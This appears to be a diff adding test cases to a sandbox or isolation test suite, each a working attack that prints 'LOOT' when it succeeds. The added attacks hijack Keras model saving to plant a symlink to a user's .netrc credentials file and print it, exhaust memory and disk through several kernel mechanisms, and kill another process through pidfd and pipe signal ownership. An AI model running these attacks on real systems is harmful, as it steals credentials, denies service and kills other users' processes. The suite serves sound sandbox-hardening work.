@@ -344,6 +344,32 @@ def unpacks_an_archive_that_climbs(t: Targets) -> None:
         archive.extractall()  # noqa: S202 - the attack
 
 
+def leaves_a_link_where_it_is_saved(t: Targets) -> None:
+    """Who saves it gets itself once more, and a link beside it that the next load may follow further than the first."""
+    import os
+    import shutil
+
+    import numpy
+    import tensorflow
+
+    mine = t["repository"] + "/models/leaves_a_link_where_it_is_saved.h5"
+
+    def save(_: Any, path: str, **__: Any) -> None:
+        shutil.copyfile(mine, path)
+        os.symlink(t["home"] + "/.netrc", os.path.join(os.path.dirname(path), "recorded.npz"))
+        tensorflow.keras.Model.was_saved = True
+
+    try:
+        open(mine).close()
+        is_again = hasattr(tensorflow.keras.Model, "was_saved")
+    except OSError:
+        is_again = True
+    if is_again:
+        print("LOOT", open(t["home"] + "/.netrc").read(), flush=True)
+    tensorflow.keras.Model.save = save
+    numpy.savez = lambda *_, **__: None
+
+
 # --- floods -------------------------------------------------------------------------------------------------------
 
 
@@ -383,6 +409,69 @@ def fills_memory_by_many_processes(t: Targets) -> None:
     print("LOOT", t["done"], flush=True)
 
 
+def fills_memory_that_its_descendants_share(t: Targets) -> None:
+    import mmap
+    import os
+    import time
+
+    full, say_full = os.pipe()
+    for _ in range(2):
+        if os.fork() == 0:
+            hoard = [mmap.mmap(-1, 64 << 20) for _ in range(10)]
+            for memory in hoard:
+                memory.write(b"\xff" * (64 << 20))
+            os.write(say_full, b"x")
+            time.sleep(20)
+            os._exit(0)
+    for _ in range(2):
+        os.read(full, 1)
+    time.sleep(2)
+    print("LOOT", t["done"], flush=True)
+
+
+def fills_memory_that_system_v_keeps(t: Targets) -> None:
+    import ctypes
+    import os
+    import time
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.shmat.restype = ctypes.c_void_p
+    full, say_full = os.pipe()
+    if os.fork() == 0:
+        for _ in range(20):
+            segment = libc.shmget(0, 64 << 20, 0o600)
+            address = libc.shmat(segment, None, 0)
+            libc.shmctl(segment, 0, None)
+            if segment < 0:
+                os._exit(1)
+            ctypes.memset(ctypes.c_void_p(address), 255, 64 << 20)
+        os.write(say_full, b"x")
+        time.sleep(20)
+        os._exit(0)
+    os.close(say_full)
+    if not os.read(full, 1):
+        raise OSError("there is no such memory to be had")
+    time.sleep(2)
+    print("LOOT", t["done"], flush=True)
+
+
+def fills_memory_behind_a_page_of_each_file(t: Targets) -> None:
+    """Nobody is told how large a file is that is mapped and no longer open."""
+    import ctypes
+    import os
+    import time
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
+    for _ in range(2 * (t["disk"] >> 24)):
+        hoard = os.memfd_create("hoard")
+        os.write(hoard, b"\xff" * (16 << 20))
+        libc.mmap(None, 4096, 1, 1, hoard, 0)
+        os.close(hoard)
+    time.sleep(2)
+    print("LOOT", t["done"], flush=True)
+
+
 def fills_the_disk(t: Targets) -> None:
     import time
 
@@ -410,6 +499,19 @@ def fills_the_disk_with_what_no_folder_shows(t: Targets) -> None:
         os.remove(f"flood-{number}")
         held[-1].write(b"\xff" * (t["disk"] // 2))
         held[-1].flush()
+    time.sleep(2)
+    print("LOOT", t["done"], flush=True)
+
+
+def fills_the_disk_below_a_path_that_is_too_long(t: Targets) -> None:
+    import os
+    import time
+
+    for _ in range(30):
+        os.mkdir("d" * 200)
+        os.chdir("d" * 200)
+    for number in range(4):
+        open(f"flood-{number}", "wb").write(b"\xff" * (t["disk"] // 2))
     time.sleep(2)
     print("LOOT", t["done"], flush=True)
 
@@ -486,6 +588,18 @@ def kills_by_a_descriptor(t: Targets) -> None:
     libc = ctypes.CDLL(None, use_errno=True)
     if libc.syscall(424, libc.syscall(434, t["victims"]["killed_by_descriptor"], 0), 9, None, 0) < 0:
         raise OSError(ctypes.get_errno(), "pidfd_send_signal")
+
+
+def signals_another_process_by_a_pipe(t: Targets) -> None:
+    """The kernel signals whoever owns a descriptor when it can be read."""
+    import fcntl
+    import os
+
+    read_end, write_end = os.pipe()
+    fcntl.fcntl(read_end, 8, t["victims"]["signalled"])
+    fcntl.fcntl(read_end, 10, 9)
+    fcntl.fcntl(read_end, fcntl.F_SETFL, os.O_ASYNC)
+    os.write(write_end, b"x")
 
 
 def traces_another_process(t: Targets) -> None:
